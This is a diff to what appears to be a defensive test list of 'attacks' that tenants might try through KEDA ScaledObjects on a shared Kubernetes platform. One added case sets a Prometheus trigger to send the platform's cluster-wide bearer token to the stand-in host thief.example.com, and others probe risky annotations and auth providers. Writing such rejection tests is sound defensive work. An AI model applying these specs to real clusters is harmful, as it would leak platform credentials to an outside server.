@@ -44,11 +44,25 @@ export const keda: readonly AddonAttack[] = [
       spec: scaled(prometheus({ serverAddress })),
     }),
   ),
+  // KEDA would send the platform's token to the tenant's own server.
   {
     kind: "ScaledObject",
-    at: "spec.triggers[].authenticationRef",
-    spec: scaled(prometheus({}, { authenticationRef: { kind: "ClusterTriggerAuthentication", name: "cloud" } })),
+    at: "spec.triggers[].authenticationRef.kind",
+    spec: scaled(
+      prometheus(
+        { serverAddress: "https://thief.example.com", authModes: "bearer" },
+        { authenticationRef: { kind: "ClusterTriggerAuthentication", name: "prometheus" } },
+      ),
+    ),
   },
+  ...["metric-config.external.all.prometheus/query", "k8s-sidecar-target-directory"].map(
+    (key): AddonAttack => ({
+      kind: "ScaledObject",
+      at: "metadata.annotations",
+      spec: scaled({ type: "cpu", metadata: { value: "60" } }),
+      annotations: { [key]: "x" },
+    }),
+  ),
   ...[
     { podIdentity: { provider: "aws" } },
     { hashiCorpVault: { address: "http://10.0.0.1" } },
